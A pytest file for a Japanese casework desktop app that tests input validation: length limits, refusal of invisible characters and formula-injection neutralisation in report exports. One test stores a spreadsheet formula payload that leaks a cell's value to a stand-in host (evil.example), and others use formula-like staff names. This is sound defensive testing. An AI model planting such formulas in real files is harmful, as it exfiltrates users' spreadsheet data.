"""One value check for every path that writes text (security issue items 4, 6, 8 and the Low
list): the ORM hook, the ledger, the bulk inserts; formula injection neutralised in every
export; invisible and unprintable characters refused in one-line fields."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select, update

from desktop.cells import neutralise, restore
from desktop.models import Episode, Person, User
from desktop.services.bulk import Batch
from desktop.services.errors import DomainError, InvalidInput
from desktop.services.ledger import COLUMNS, cell_text, read_table
from desktop.services.persons import PersonInput
from desktop.services.reports import Period
from tests.conftest import Clock, World
from tests.services.helpers import build_report_caseload
from tests.services.test_ledger import _other_database, ledger_row, write_csv

HEADER = [label for _, label in COLUMNS]


def _persons(world: World) -> int:
    with world.services.ctx.db.read() as s:
        return s.scalar(select(func.count()).select_from(Person)) or 0


def test_an_over_long_ledger_cell_is_refused_per_row_naming_the_column(world: World,
                                                                      tmp_path: Path) -> None:
    path = write_csv(tmp_path / "long.csv", [
        ledger_row(ケース番号="L-1", 氏名=f"{'長' * 1990} 太郎"),
        ledger_row(ケース番号="L-2", 住所="東" * 201),
        ledger_row(ケース番号="L-3", 氏名="山田 花子", 同意日="R7.4.2", 支援要請日="R7.4.3",
                   支援開始日="R7.4.10", 就職日="R7.6.1", 事業所名="株" * 201,
                   雇用期間区分="定めなし"),
        ledger_row(ケース番号="L-4", 氏名="正常 太郎"),
    ])
    result = world.services.ledger.import_file(world.admin, path)
    assert (result.imported, result.rejected) == (1, 3)
    reasons = {e.row: (e.column, e.reason) for e in result.errors}
    assert reasons[2][0] == "氏名" and "50文字以内" in reasons[2][1]
    assert reasons[3][0] == "住所" and "200文字以内" in reasons[3][1]
    assert reasons[4][0] == "事業所名" and "200文字以内" in reasons[4][1]
    with world.services.ctx.db.read() as s:
        assert s.scalar(select(func.max(func.length(Person.family_name)))) <= 50


def test_bulk_inserts_go_through_the_same_value_check(world: World) -> None:
    with pytest.raises(InvalidInput) as caught, world.services.ctx.db.write() as s:
        Batch(s).add(Person, {"family_name": "長" * 51, "given_name": "太郎"})
    assert caught.value.field == "family_name" and "50文字以内" in caught.value.message
    with pytest.raises(InvalidInput, match="表示方向"), world.services.ctx.db.write() as s:
        Batch(s).add(Episode, {"note": "\u202e逆"})


@pytest.mark.parametrize(("field", "value"), [
    ("family_name", "山田\u200b"), ("given_name", "\u200f太郎"), ("address", "東京都\u2028新宿区"),
    ("family_name", "\ufeff山田"), ("address", "新宿\u200d区"),
])
def test_one_line_fields_refuse_invisible_characters(world: World, field: str,
                                                     value: str) -> None:
    before = _persons(world)
    with pytest.raises(InvalidInput) as caught:
        world.person(**{field: value})
    assert caught.value.field == field and "目に見えない文字" in caught.value.message
    assert _persons(world) == before


def test_long_text_keeps_its_line_separators(world: World) -> None:
    pid = world.person(household="母と二人\u2028暮らし")
    assert world.services.persons.get_person(world.admin, pid).household == "母と二人\u2028暮らし"


def test_unprintable_characters_are_refused_in_names_but_jis_x_0213_kanji_are_not(
        world: World) -> None:
    with pytest.raises(InvalidInput, match="印刷できない") as caught:
        world.person(family_name="山田😀")
    assert caught.value.field == "family_name" and "U+1F600" in caught.value.message
    with pytest.raises(InvalidInput, match="印刷できない"):
        world.person(address="서울")  # Hangul: no bundled font has it
    pid = world.person(family_name="𠮷田", given_name="髙﨑")  # IPAmj明朝 prints them
    assert world.services.persons.get_person(world.admin, pid).family_name == "𠮷田"


def test_formula_like_staff_names_are_neutralised_in_every_report_export(world: World) -> None:
    build_report_caseload(world)
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"開く")'
    with world.services.ctx.db.write() as s:  # a name stored before the entry check existed
        s.execute(update(User).where(User.id == world.cw_a.user_id).values(display_name=hostile))
    period = Period.fiscal(2025)
    xlsx = world.services.reports.export(world.supervisor, period, "xlsx")
    texts = [(c.value, c.data_type) for ws in load_workbook(io.BytesIO(xlsx)).worksheets
             for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert ("'" + hostile, "s") in texts
    assert not any(v.startswith(("=", "+", "-", "@")) for v, _ in texts)
    assert all(kind != "f" for _, kind in texts)
    rows = list(csv.reader(io.StringIO(
        world.services.reports.export(world.supervisor, period, "csv").decode("utf-8-sig"))))
    cells = [c for row in rows for c in row]
    assert "'" + hostile in cells
    assert not any(c.startswith(("=", "+", "-", "@", "\t")) for c in cells)


def test_staff_display_names_that_would_run_as_formulas_are_refused(world: World) -> None:
    for name in ("=1+1", "+SUM(A1)", "-2", "@cmd", " =HYPERLINK(1)"):
        with pytest.raises(DomainError, match="数式"):
            world.services.auth.add_user(world.admin, "mallory", name, "viewer", "password-123")


@pytest.mark.parametrize("value", ["\t備考", "\r備考", "=1+1", "+81", "-", "@here", "'quoted"])
def test_neutralise_then_restore_gives_back_the_value(value: str) -> None:
    assert restore(neutralise(value)) == value
    assert not neutralise(value).startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.sqlite_only(reason="the round trip goes into a second (SQLite) database")
def test_a_tab_prefixed_note_survives_an_export_import_round_trip(
        world: World, tmp_path: Path, template_dir: tuple[Path, str], clock: Clock) -> None:
    pid = world.person(case_number="TAB-1")
    world.services.workflow.open_episode(world.cw_a, pid, date(2026, 4, 1), "\t字下げした備考")
    exported, _ = world.services.ledger.export(world.admin, "csv")
    header, body, _ = read_table(exported, "export.csv")
    note = cell_text(body[0][1][header.index("備考")])
    assert note == "\t字下げした備考"
    path = tmp_path / "export.csv"
    path.write_bytes(exported)
    other, opened = _other_database(tmp_path, template_dir, clock,
                                    [("cwa", "青山 里美", "caseworker")])
    try:
        admin = other.auth.login("admin", "password-123")
        assert other.ledger.import_file(admin, path).imported == 1
        with other.ctx.db.read() as s:
            assert s.scalar(select(Episode.note)) == "\t字下げした備考"
    finally:
        opened.db.close()  # type: ignore[attr-defined]


def test_persons_input_check_is_the_ledgers_too() -> None:
    from desktop.services.persons import validated

    with pytest.raises(InvalidInput) as caught:
        validated(PersonInput("C-1", "長" * 51, "太郎", "ナガ", "タロウ", date(1980, 1, 1),
                              "public_assistance"), date(2026, 1, 1))
    assert caught.value.field == "family_name"
